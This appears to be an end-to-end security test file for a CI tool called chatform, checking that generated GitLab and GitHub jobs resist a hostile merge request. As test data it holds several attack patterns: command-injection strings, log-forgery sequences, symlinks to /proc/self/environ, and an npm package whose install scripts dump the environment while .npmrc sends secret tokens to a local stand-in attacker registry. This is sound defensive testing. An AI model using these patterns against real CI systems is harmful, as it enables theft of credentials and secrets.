/**
 * Attacks the jobs that `chatform init --ci` writes, as the author of a change can: by the config, names and texts on GitLab, and by npm on
 * both systems. (test/e2e/workflow-github.test.ts attacks those for GitHub by the config.)
 */
import { execFileSync } from "node:child_process";
import { once } from "node:events";
import { readFile, symlink, writeFile } from "node:fs/promises";
import type { Server } from "node:http";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { startStateServer } from "../conformance/state-server.js";
import { GithubProject } from "../helpers/github-project.js";
import type { Job, JobResult } from "../helpers/gitlab.js";
import { GitlabProject } from "../helpers/gitlab-project.js";
import type { Machine } from "../helpers/shell.js";

/** What an author would like to know, by the name of the variable. */
const prizes = {
  CHATFORM_STATE_PASSPHRASE: "passphrase-of-the-state",
  GITLAB_TOKEN: "glpat-of-the-project",
  GENESYSCLOUD_APPLY_OAUTHCLIENT_SECRET: "secret-of-the-applier",
};
const jobToken = "token-of-the-job";

const closing: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closing.splice(0)) await close();
});

describe("a merge request on GitLab", () => {
  const attack = "$(touch pwned)`touch pwned`'; touch pwned; '\n::x\nsection_start:0:x\r\u001b[0K";
  const texts = {
    CI_COMMIT_REF_NAME: attack,
    CI_MERGE_REQUEST_SOURCE_BRANCH_NAME: attack,
    CI_MERGE_REQUEST_TITLE: attack,
    CI_COMMIT_MESSAGE: attack,
    CI_PROJECT_URL: `https://gitlab.example.com/${attack}`,
  };

  it("gets no secret out, and no command in, whatever its config and names say", async () => {
    const project = await GitlabProject.start(jobToken);
    closing.push(() => project.stop());
    const { machine, states } = project;
    const bait = await startStateServer({ manner: "terraform" });
    closing.push(() => bait.close());
    const { GENESYSCLOUD_OAUTHCLIENT_SECRET: ofClient = "" } = project.emulator.env;
    const secrets = { ...prizes, GENESYSCLOUD_OAUTHCLIENT_SECRET: ofClient, TF_HTTP_PASSWORD: jobToken };
    const shown: string[] = [];
    const plan = async (config: object): Promise<JobResult> => {
      await machine.write(
        "chatform.yaml",
        JSON.stringify({ version: 1, state: { backend: "http" }, ...config }),
      );
      const variables = { ...texts, ...prizes, CI_PIPELINE_SOURCE: "merge_request_event" };
      const result = await project.run("plan", variables);
      const { paths, reports = {} } = (project.pipeline["plan"] as Job).artifacts!;
      const files = [...paths, ...Object.values(reports), "plan.json"];
      const read = files.map((name) => readFile(join(machine.folder, name), "utf8").catch(() => ""));
      shown.push(result.log, ...(await Promise.all(read)));
      return result;
    };

    const references = [...Object.keys(secrets), "CI_JOB_TOKEN"].map((name) => `\${env:${name}}`);
    const rooms = Object.fromEntries(
      references.map((text, at) => [`r${at}`, { subject: text, description: text }]),
    );
    const leaking = await plan({ rooms, include: references });
    expect([leaking.ok, leaking.log.includes("credential-in-config")]).toEqual([false, true]);

    const elsewhere = { address: bait.url, lockAddress: bait.url, unlockAddress: bait.url };
    for (const [member, address] of Object.entries(elsewhere)) {
      const { log } = await plan({ state: { backend: "http", [member]: address }, rooms: {} });
      expect(log).toContain(`The config would send TF_HTTP_PASSWORD to ${new URL(bait.url).origin}`);
    }
    expect([bait.requests, states.requests]).toEqual([[], []]);

    await symlink("/proc/self/environ", join(machine.folder, "rows.csv"));
    await symlink("/proc/self/environ", join(machine.folder, "more.yaml"));
    await machine.commit();
    const row = { "${each.key}": { forEach: "rows.csv", subject: "A" } };
    for (const config of [
      { include: ["/proc/self/environ"] },
      { include: ["more.yaml"] },
      { rooms: row },
      { state: { backend: "local", path: "/proc/self/environ" }, rooms: { a: { subject: "A" } } },
    ])
      expect((await plan(config)).ok).toBe(false);

    const name = `$(touch pwned)\nsection_start:0:y.yaml`;
    await machine.write(name, 'version: 1\nrooms: { named: { subject: "A" } }\n');
    const acting = await plan({
      include: ["*y.yaml"],
      rooms: { w: { subject: attack, description: attack } },
    });
    expect(acting.ok, acting.log).toBe(true);
    const forged = acting.log.split("\n").filter((line) => /^(?:::|section_start)|\p{Cc}/u.test(line));
    expect(forged).toEqual([]);
    expect(Object.keys(JSON.parse(await machine.read("apply.yml")) as object)).toEqual([
      "include",
      "variables",
    ]);
    await expect(machine.read("pwned")).rejects.toThrow("ENOENT");
    for (const secret of Object.values(secrets)) expect(shown.join("\n")).not.toContain(secret);
  });
});

/** The real npm, instead of the stand-in that fetches nothing. */
const npm = execFileSync("bash", ["-c", "command -v npm"], { encoding: "utf8" }).trim();

/** A registry of an attacker. It keeps the credentials that it is sent. */
async function startRegistry(tarball: Buffer): Promise<{ readonly url: string; readonly sent: string[] }> {
  const sent: string[] = [];
  const server: Server = createServer(({ headers, url }, response) => {
    sent.push(`${url ?? ""} ${headers.authorization ?? ""}`);
    response.end(tarball);
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  closing.push(async () => {
    server.closeAllConnections();
    server.close();
    return Promise.resolve();
  });
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, sent };
}

/**
 * Commits a package.json, a lock file and an .npmrc that install another chatform from another registry. It notes the environment of each
 * of its scripts and programs.
 */
async function commitHostilePackage(machine: Machine): Promise<Awaited<ReturnType<typeof startRegistry>>> {
  const folder = await machine.beside("package");
  const note = `require("fs").appendFileSync(process.env.HOME + "/seen.jsonl", JSON.stringify(process.env) + "\\n");`;
  const own = {
    ...{ name: "chatform", version: "0.1.0", bin: { chatform: "note.js" } },
    scripts: { preinstall: "node note.js", postinstall: "node note.js", prepare: "node note.js" },
  };
  await writeFile(join(folder, "package.json"), JSON.stringify(own));
  await writeFile(join(folder, "note.js"), `#!/usr/bin/env node\n${note}\n`, { mode: 0o755 });
  const archive = join(folder, "..", "chatform.tgz");
  execFileSync("tar", ["-czf", archive, "-C", join(folder, ".."), "package"]);
  const registry = await startRegistry(await readFile(archive));
  const dependencies = { chatform: `${registry.url}/chatform.tgz` };
  const root = { name: "chat", dependencies };
  await machine.write("package.json", JSON.stringify({ ...root, scripts: own.scripts }));
  await machine.write("note.js", note);
  const entry = { version: "0.1.0", resolved: dependencies.chatform, hasInstallScript: true, bin: own.bin };
  const packages = { "": root, "node_modules/chatform": entry };
  await machine.write("package-lock.json", JSON.stringify({ ...root, lockfileVersion: 3, packages }));
  const tokens = ["GENESYSCLOUD_OAUTHCLIENT_SECRET", "CHATFORM_STATE_PASSPHRASE", "GITLAB_TOKEN"]
    .map((name) => `\${${name}}`)
    .join("");
  const host = registry.url.replace("http:", "");
  await machine.write(
    ".npmrc",
    `ignore-scripts=false\nregistry=${registry.url}/\n${host}/:_authToken=${tokens}\naudit=false\nupdate-notifier=false\n`,
  );
  await machine.program("npm", `exec "${npm}" "$@"`);
  return registry;
}

/** Returns which of these values the code of the package has seen since the last call, by their names. */
async function seen(machine: Machine, values: Readonly<Record<string, string>>): Promise<readonly string[]> {
  const text = await readFile(join(machine.folder, "../seen.jsonl"), "utf8").catch(() => "none");
  await writeFile(join(machine.folder, "../seen.jsonl"), "");
  if (text === "none" || text === "") return ["nothing ran"];
  return Object.entries(values).flatMap(([name, value]) => (text.includes(value) ? [name] : []));
}

describe("code of a package that a change installs", () => {
  it("sees on GitLab what its job is for, and no secret of another", async () => {
    const project = await GitlabProject.start(jobToken);
    closing.push(() => project.stop());
    const { machine } = project;
    const registry = await commitHostilePackage(machine);
    const reader = { GENESYSCLOUD_OAUTHCLIENT_SECRET: "secret-of-the-reader" };
    const writer = { GENESYSCLOUD_OAUTHCLIENT_SECRET: "secret-of-the-writer" };
    const passphrase = { CHATFORM_STATE_PASSPHRASE: prizes.CHATFORM_STATE_PASSPHRASE };
    /** As docs/ci.md sets them up: by the job's environment. */
    const byEnvironment: Readonly<Record<string, Readonly<Record<string, string>>>> = {
      "chatform-plan": { ...reader, ...passphrase },
      chatform: { ...writer, ...passphrase },
    };
    const values = {
      reader: reader.GENESYSCLOUD_OAUTHCLIENT_SECRET,
      writer: writer.GENESYSCLOUD_OAUTHCLIENT_SECRET,
      passphrase: prizes.CHATFORM_STATE_PASSPHRASE,
    };
    const run = async (name: string): Promise<readonly string[]> => {
      const { environment } = project.pipeline[name] as Job;
      const scope = typeof environment === "object" ? environment.name : (environment ?? "");
      const unset = { GENESYSCLOUD_OAUTHCLIENT_SECRET: "", GENESYSCLOUD_OAUTHCLIENT_ID: "" };
      const { log } = await project.run(name, { ...unset, ...byEnvironment[scope] });
      if (name === "install") expect(log).toContain("added 1 package");
      return seen(machine, values);
    };
    expect(await run("install")).toEqual([]);
    expect(registry.sent).toEqual([expect.stringContaining("/chatform.tgz")]);
    for (const value of Object.values(values)) expect(registry.sent[0]).not.toContain(value);
    expect(await run("validate")).toEqual([]);
    expect(await run("plan")).toEqual(["reader", "passphrase"]);
    expect(await run("apply")).toEqual(["writer", "passphrase"]);
  });

  it("runs no script on GitHub where chatform is not built, whatever .npmrc says, and sees no secret while it is installed", async () => {
    const project = await GithubProject.start("--package", "npm:@acme/chatform@0.1.0");
    closing.push(() => project.stop());
    const { machine } = project;
    const registry = await commitHostilePackage(machine);
    expect(project.text).toContain("npm ci --ignore-scripts");
    const usual = project.pullRequest();
    const values = {
      reader: "secret-of-the-reader",
      writer: "secret-of-the-applier",
      passphrase: "passphrase-of-the-state",
    };
    const secrets = {
      GENESYSCLOUD_OAUTHCLIENT_ID: "reader",
      GENESYSCLOUD_OAUTHCLIENT_SECRET: values.reader,
      CHATFORM_STATE_PASSPHRASE: values.passphrase,
    };
    await project.job("validate", { ...usual, secrets });
    // The program itself, and before it no script.
    expect((await readFile(join(machine.folder, "../seen.jsonl"), "utf8")).split("\n")).toHaveLength(2);
    expect(await seen(machine, values)).toEqual([]);
    await project.job("plan", { ...usual, secrets });
    expect(await seen(machine, values)).toEqual(["reader", "passphrase"]);
    expect(registry.sent).toHaveLength(2);
    for (const value of Object.values(values)) expect(registry.sent.join("\n")).not.toContain(value);
  });
});
